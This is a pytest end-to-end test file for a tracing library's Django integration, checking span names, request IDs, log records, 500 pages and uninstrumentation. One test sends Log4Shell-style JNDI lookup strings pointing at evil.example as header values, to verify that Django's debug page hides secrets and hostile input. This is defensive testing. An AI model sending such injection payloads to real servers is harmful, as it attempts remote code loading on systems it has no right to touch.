"""Django: one line in asgi.py/wsgi.py, spans named by the resolved URL pattern.

A real Django project (``tests/apps/django_site``) served by a real uvicorn (ASGI) and a real gunicorn (WSGI),
spans exported to a real collector (rotel), requested with httpx.  What is asserted is what a user sees:
the response headers, the JSON log lines the server printed, the spans the collector received, and
Django's own ``DEBUG`` error page.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
import uuid
from collections.abc import Callable, Iterator
from typing import Any

import httpx
import pytest

from .collector import Collector, ReceivedSpan, free_port
from .conftest import ROOT, Server, server_env

pytest.importorskip("django")

SITE = "tests.apps.django_site"
KINDS = ["asgi", "wsgi"]


@pytest.fixture
def serve(tmp_path: Any) -> Iterator[Callable[..., Server]]:
    """Start the test project under uvicorn (``asgi``) or gunicorn (``wsgi``) with ``env`` added."""
    started: list[Server] = []

    def start(kind: str, collector: Collector, **extra: str) -> Server:
        port = free_port()
        if kind == "asgi":
            argv = ["-m", "uvicorn", f"{SITE}.asgi:application", "--host", "127.0.0.1", "--port", str(port)]
        else:
            argv = ["-m", "gunicorn", f"{SITE}.wsgi:application", "-b", f"127.0.0.1:{port}", "--workers", "1"]
        env = server_env(collector, OTEL_SERVICE_NAME=f"django-{kind}", PYTHONUNBUFFERED="1", **extra)
        server = Server([sys.executable, *argv], env, tmp_path / f"{kind}-{port}.log", port)
        started.append(server)
        return server

    yield start
    for server in started:
        try:
            server.sigterm(15)
        except Exception:
            pass
        server.stop()


def _span(collector: Collector, request_id: str) -> ReceivedSpan:
    """The one server span the collector received for the request with this request ID."""
    deadline = time.monotonic() + 15
    while True:
        found = [s for s in collector.spans() if s.attributes.get("request.id") == request_id]
        if found or time.monotonic() > deadline:
            assert len(found) == 1, found
            return found[0]
        time.sleep(0.1)


def _records(server: Server, **match: str) -> list[dict[str, Any]]:
    """The JSON log records the server printed that have these fields."""
    records = []
    for line in server.output().splitlines():
        if line.startswith("{"):
            record = json.loads(line)
            if all(record.get(k) == v for k, v in match.items()):
                records.append(record)
    return records


def _wait_records(server: Server, **match: str) -> list[dict[str, Any]]:
    deadline = time.monotonic() + 10
    while not (found := _records(server, **match)) and time.monotonic() < deadline:
        time.sleep(0.1)
    return found


@pytest.mark.e2e
@pytest.mark.parametrize("kind", KINDS)
def test_one_id_and_spans_named_by_route(kind: str, collector: Collector, serve: Any) -> None:
    """The one-ID table holds under Django; spans are named by the resolved URL pattern (none on a 404)."""
    server = serve(kind, collector)
    # A UUID request ID is the trace ID: header, view, span.
    rid = str(uuid.uuid4())
    r = httpx.get(f"{server.url}/shop/eu/articles/2024/", headers={"X-Request-ID": rid})
    trace_id = rid.replace("-", "")
    assert r.status_code == 200
    assert r.headers["x-request-id"] == rid
    assert r.json() == {"trace_id": trace_id, "request_id": rid, "header": rid}
    span = _span(collector, rid)
    assert span.trace_id == trace_id
    assert span.name == "GET shop/<str:region>/articles/<int:year>/"  # through the nested include()
    assert span.attributes["http.route"] == "shop/<str:region>/articles/<int:year>/"
    assert span.kind == "SPAN_KIND_SERVER" and span.parent_id == ""
    # No request ID sent: the trace ID is the request ID, in the header, the log line and the collector.
    r = httpx.get(f"{server.url}/checkout/?cart=c-7")
    made = r.headers["x-request-id"]
    assert r.json()["trace_id"] == made == r.headers["traceresponse"].split("-")[1]
    (line,) = _wait_records(server, logger="shop.checkout")
    assert line["message"] == "checking out cart c-7"
    assert line["request_id"] == line["trace_id"] == made
    span = _span(collector, made)
    assert span.trace_id == made and span.name == "GET checkout/"
    # A regex pattern (re_path) as Django writes the route, and the root pattern as "/".
    r = httpx.get(f"{server.url}/shop/eu/legacy/shoes/", headers={"X-Request-ID": "dj-legacy-1"})
    assert r.status_code == 200
    assert _span(collector, "dj-legacy-1").attributes["http.route"] == "shop/<str:region>/legacy/(?P<slug>[a-z]+)/$"
    httpx.get(f"{server.url}/", headers={"X-Request-ID": "dj-root-1"})
    root = _span(collector, "dj-root-1")
    assert (root.name, root.attributes["http.route"]) == ("GET /", "/")
    # No pattern matches: Django's 404, the span named by the method only, no http.route (as FastAPI and Flask do).
    r = httpx.get(f"{server.url}/no/such/page/", headers={"X-Request-ID": "dj-404"})
    assert r.status_code == 404 and r.headers["x-request-id"] == "dj-404"
    missing = _span(collector, "dj-404")
    assert missing.name == "GET" and "http.route" not in missing.attributes
    assert missing.attributes["http.response.status_code"] == "404" and missing.status != "STATUS_CODE_ERROR"


@pytest.mark.e2e
@pytest.mark.parametrize(
    ("kind", "path", "logging"),
    [
        ("asgi", "/boom/", "root"),
        ("asgi", "/async-boom/", "root"),
        ("wsgi", "/boom/", "root"),
        ("asgi", "/boom/", "defaults"),
        ("wsgi", "/boom/", "defaults"),
    ],
)
def test_an_exception_goes_through_djangos_500(
    kind: str, path: str, logging: str, collector: Collector, serve: Any
) -> None:
    """A view raises: Django answers its 500 (with our IDs), the span records the exception, one error line.

    ``defaults``: Django's own handlers left on its ``django`` logger (console in DEBUG, mail_admins without
    ADMINS), as in a project that only added a root handler: they are no destination, our line is the one.
    """
    server = serve(kind, collector, DJANGO_LOGGING=logging)
    r = httpx.get(f"{server.url}{path}", headers={"X-Request-ID": "dj-boom-1"})
    assert r.status_code == 500
    assert r.headers["x-request-id"] == "dj-boom-1"
    assert "<h1>Server Error (500)</h1>" in r.text  # Django's own 500 page (DEBUG off), not the middleware's
    span = _span(collector, "dj-boom-1")
    assert span.status == "STATUS_CODE_ERROR"
    assert span.attributes["error.type"] == "RuntimeError"
    assert span.attributes["http.response.status_code"] == "500"
    assert span.attributes["http.route"] == path.strip("/") + "/"
    assert "exception" in span.events
    # One error, one line: ours, with the IDs; Django's "Internal Server Error: /boom/" is not written again.
    httpx.get(f"{server.url}/checkout/?cart=end")  # a later request: everything of the first one is printed
    _wait_records(server, logger="shop.checkout")
    (line,) = _records(server, level="ERROR")
    assert line["logger"] == "otel_corr.error"
    assert line["message"] == f"Unhandled RuntimeError in GET {path}"
    assert line["request_id"] == "dj-boom-1" and line["trace_id"] == span.trace_id
    assert "payment service exploded" in line["exception"]
    assert server.output().count("Traceback (most recent call last)") == 1


@pytest.mark.e2e
@pytest.mark.parametrize("kind", KINDS)
def test_the_debug_page_never_shows_a_secret_header(kind: str, collector: Collector, serve: Any) -> None:
    """DEBUG's technical 500 page hides otel-corr's secret headers, and shows no rejected request ID or traceparent."""
    server = serve(
        kind,
        collector,
        DJANGO_DEBUG="1",
        OTEL_INSTRUMENTATION_HTTP_CAPTURE_HEADERS_SANITIZE_FIELDS="x-card-ref",
        OTEL_CORR_UPDATE_REQUEST_HEADER="false",  # the raw request-ID header stays in request.META
    )
    secrets = {"X-Shop-Session": "sess-4f2a-very-secret", "X-Card-Ref": "card-9931-secret"}
    hostile = {"traceparent": "${jndi:ldap://evil.example/a}", "X-Request-ID": "<b>${jndi:ldap://evil.example/b}"}
    headers = {**secrets, **hostile, "Accept": "text/html", "Authorization": "Bearer tok-django-hides-this"}
    r = httpx.get(f"{server.url}/boom/", headers=headers)
    assert r.status_code == 500
    page = r.text
    assert "RuntimeError" in page and "HTTP_X_SHOP_SESSION" in page  # the technical page, its META table
    for value in [*secrets.values(), "tok-django-hides-this"]:
        assert value not in page
    assert "jndi" not in page
    assert "[not used: 29 characters]" in page  # what the page says of the traceparent instead
    # The same page as text (a client that does not accept HTML), and the request ID we chose is on the 500.
    text = httpx.get(f"{server.url}/boom/", headers={**headers, "Accept": "text/plain"})
    assert "HTTP_X_CARD_REF" in text.text and "card-9931-secret" not in text.text and "jndi" not in text.text
    assert text.headers["x-request-id"] not in ("", headers["X-Request-ID"])


UNINSTRUMENT = """
import os, sys
os.environ["DJANGO_SETTINGS_MODULE"] = "tests.apps.django_site.settings"
import httpx, otel_corr
async def plain(scope, receive, send): pass
otel_corr.instrument(plain)
assert "django" not in sys.modules  # import otel_corr and a plain app never import Django (an optional extra)
from django.core.signals import got_request_exception
from django.core.wsgi import get_wsgi_application
from opentelemetry.sdk.trace import TracerProvider
from opentelemetry.sdk.trace.export import SimpleSpanProcessor
from opentelemetry.sdk.trace.export.in_memory_span_exporter import InMemorySpanExporter

exporter = InMemorySpanExporter()
provider = TracerProvider()
provider.add_span_processor(SimpleSpanProcessor(exporter))
handler = get_wsgi_application()
app = otel_corr.instrument(handler, tracer_provider=provider)
assert otel_corr.instrument(handler) is app  # twice: nothing more, the same app to serve
def get(app, path):
    with httpx.Client(transport=httpx.WSGITransport(app=app), base_url="http://127.0.0.1") as client:
        return client.get(path)
r = get(app, "/shop/eu/articles/2024/")
names = [s.name for s in exporter.get_finished_spans()]
django_patches = [p.target for p in otel_corr.patches() if "django" in p.target]
receivers = len(got_request_exception.receivers)
undo = sys.argv[1]
if undo == "app":
    back = otel_corr.uninstrument(app)
else:
    otel_corr.uninstrument()
    back = handler
exporter.clear()
r2 = get(back, "/shop/eu/articles/2024/")
r3 = get(back, "/boom/")
print("RESULT", names, back is handler, "resolve_request" in vars(handler), "x-request-id" in r2.headers,
      len(exporter.get_finished_spans()), bool(django_patches), receivers,
      len(got_request_exception.receivers), [p.target for p in otel_corr.patches() if "django" in p.target],
      r3.status_code, hasattr(handler, "_otel_corr_state"))
"""


@pytest.mark.parametrize("undo", ["app", "process"])
def test_uninstrument_puts_the_handler_back(undo: str) -> None:
    """uninstrument(app) or uninstrument() gives back Django's handler as it was: no span, no header, no receiver."""
    out = subprocess.run(
        [sys.executable, "-c", UNINSTRUMENT, undo],
        cwd=ROOT,
        env={**os.environ, "PYTHONPATH": str(ROOT), "OTEL_LOGS_EXPORTER": "none", "OTEL_TRACES_EXPORTER": "none"},
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert out.returncode == 0, out.stderr
    (result,) = [line for line in out.stdout.splitlines() if line.startswith("RESULT ")]
    assert result == ("RESULT ['GET shop/<str:region>/articles/<int:year>/'] True False False 0 True 1 0 [] 500 False")


EXCLUDED = """
import logging, os, sys
os.environ["DJANGO_SETTINGS_MODULE"] = "tests.apps.django_site.settings"
import httpx, otel_corr
from django.core.wsgi import get_wsgi_application

app = otel_corr.instrument(get_wsgi_application(), excluded_urls=["/boom/"])
with httpx.Client(transport=httpx.WSGITransport(app=app), base_url="http://127.0.0.1") as client:
    r = client.get("/boom/")
print("RESULT", r.status_code, "x-request-id" in r.headers)
"""


def test_an_excluded_url_is_left_to_django() -> None:
    """A URL excluded from tracing that raises: no request ID, no span, Django's own error line (not ours)."""
    out = subprocess.run(
        [sys.executable, "-c", EXCLUDED],
        cwd=ROOT,
        env={**os.environ, "PYTHONPATH": str(ROOT), "OTEL_LOGS_EXPORTER": "none", "OTEL_TRACES_EXPORTER": "none"},
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert out.returncode == 0, out.stderr
    lines = out.stdout.splitlines()
    assert "RESULT 500 False" in lines
    errors = [json.loads(line) for line in lines if line.startswith("{") and '"ERROR"' in line]
    assert [(e["logger"], e["message"]) for e in errors] == [("django.request", "Internal Server Error: /boom/")]


_WITHOUT_RESOLVE_REQUEST = """
import json, os, sys
sys.path.insert(0, sys.argv[1])
os.environ["DJANGO_SETTINGS_MODULE"] = "django_site.settings"
import httpx
from django.core.wsgi import get_wsgi_application
import otel_corr
from otel_corr import _django
from otel_corr.testing import capture

handler = get_wsgi_application()
resolve = handler.resolve_request
handler.resolve_request = None  # instrument() meets a Django without the undocumented resolve_request
def broken(request):
    raise RuntimeError("a receiver bug")
_django._record_exception = broken  # a failure in our got_request_exception receiver
with capture() as cap:
    app = otel_corr.instrument(handler, tracer_provider=cap.provider)
    handler.resolve_request = resolve  # and Django resolves its own way, unwrapped
    with httpx.Client(transport=httpx.WSGITransport(app=app), base_url="http://127.0.0.1") as c:
        ok = c.get("/shop/eu/articles/2024/")
        boom = c.get("/boom/")
    print(json.dumps({"names": [s.name for s in cap.spans()], "codes": [ok.status_code, boom.status_code],
                      "boom": boom.text[:200]}))
"""


def test_the_route_without_resolve_request_and_djangos_500_despite_a_receiver_failure() -> None:
    """The route also comes from the documented request.resolver_match (resolve_request is Django's
    internal); and an exception in our signal receiver never replaces Django's own 500 handling (Django
    sends got_request_exception with send, not send_robust)."""
    import json
    import subprocess
    import sys

    out = subprocess.run(
        [sys.executable, "-c", _WITHOUT_RESOLVE_REQUEST, os.path.join(os.path.dirname(__file__), "apps")],
        capture_output=True,
        text=True,
        timeout=60,
        check=True,
        env={**os.environ, "OTEL_TRACES_EXPORTER": "none", "OTEL_LOGS_EXPORTER": "none"},
    ).stdout
    answer = json.loads(out.splitlines()[-1])
    assert answer["names"] == ["GET shop/<str:region>/articles/<int:year>/", "GET boom/"]
    assert answer["codes"] == [200, 500]


async def test_lifespan_is_answered_for_a_django_that_refuses_it_and_left_to_one_that_handles_it() -> None:
    """Django's ASGIHandler refuses lifespan (so uvicorn never told the middleware to flush at SIGTERM):
    the shim answers it.  A Django that handles lifespan itself keeps it, its hooks run."""
    from otel_corr._django import Lifespan

    async def refuses(scope: Any, receive: Any, send: Any) -> None:
        raise ValueError("Django can only handle ASGI/HTTP connections, not lifespan.")

    hooks: list[str] = []

    async def handles(scope: Any, receive: Any, send: Any) -> None:
        while True:
            message = await receive()
            hooks.append(message["type"])
            await send({"type": message["type"] + ".complete"})
            if message["type"] == "lifespan.shutdown":
                return

    for app in (refuses, handles):
        inbox = [{"type": "lifespan.startup"}, {"type": "lifespan.shutdown"}]
        sent: list[str] = []

        async def receive(inbox: list[dict[str, str]] = inbox) -> dict[str, str]:
            return inbox.pop(0)

        async def send(message: dict[str, str], sent: list[str] = sent) -> None:
            sent.append(message["type"])

        await Lifespan(app)({"type": "lifespan"}, receive, send)
        assert sent == ["lifespan.startup.complete", "lifespan.shutdown.complete"]
    assert hooks == ["lifespan.startup", "lifespan.shutdown"]
